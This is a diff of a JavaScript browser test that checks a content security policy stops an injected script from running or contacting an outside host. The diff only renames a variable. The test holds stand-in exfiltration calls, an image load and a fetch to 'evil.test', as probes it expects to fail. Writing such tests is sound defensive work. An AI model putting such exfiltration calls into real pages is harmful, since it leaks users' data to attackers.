@@ -38,7 +38,7 @@ it('security 18: a script that got into a page could neither run nor tell anybod
     const image = new Image()
     image.src = 'https://evil.test/stolen.png'
     await failed
-    const told = await fetch('https://evil.test/collect').then(
+    const reported = await fetch('https://evil.test/collect').then(
       () => true,
       () => false,
     )
@@ -49,9 +49,9 @@ it('security 18: a script that got into a page could neither run nor tell anybod
       evaluated = false
     }
     await new Promise((resolve) => requestAnimationFrame(() => setTimeout(resolve)))
-    return { told, evaluated, ran: [marks.ranInline, marks.ranError, marks.ranLoad], refused }
+    return { reported, evaluated, ran: [marks.ranInline, marks.ranError, marks.ranLoad], refused }
   })
-  expect(seen).toMatchObject({ told: false, evaluated: false, ran: [undefined, undefined, undefined] })
+  expect(seen).toMatchObject({ reported: false, evaluated: false, ran: [undefined, undefined, undefined] })
   expect(seen.refused).toEqual(
     expect.arrayContaining([
       'script-src-elem inline',
